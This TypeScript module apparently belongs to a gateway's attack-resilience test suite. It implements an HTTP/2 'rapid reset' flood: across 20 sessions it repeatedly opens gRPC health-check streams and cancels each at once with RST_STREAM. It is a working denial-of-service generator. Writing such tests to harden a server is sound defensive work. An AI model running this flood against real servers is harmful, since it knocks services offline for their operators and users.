import { block } from "../../gateway/src/testing/frames.ts";
import { END_HEADERS, END_STREAM, frame, HEADERS, RST_STREAM } from "../load/http2-frames.ts";
import type { Attack } from "./attack.ts";
import { floodBySession } from "./raw-session.ts";

const SESSIONS = 20;
const CANCEL = Buffer.from([0, 0, 0, 8]);

const HEAD = block([
  [":method", "POST"],
  [":scheme", "http"],
  [":path", "/grpc.health.v1.Health/Check"],
  [":authority", "a"],
  ["content-type", "application/json"],
]);

function openAndReset(stream: number): Buffer {
  return Buffer.concat([
    frame(HEADERS, END_HEADERS | END_STREAM, stream, HEAD),
    frame(RST_STREAM, 0, stream, CANCEL),
  ]);
}

export const rapidResets: Attack = {
  name: "resets",
  does: `streams that are reset at once, on ${SESSIONS} connections`,
  serves: "posts",
  others: "a page of posts",
  slower: 25,
  begin: (port, did) => {
    for (let i = 0; i < SESSIONS; i++) floodBySession(port, { request: openAndReset }, did);
  },
};
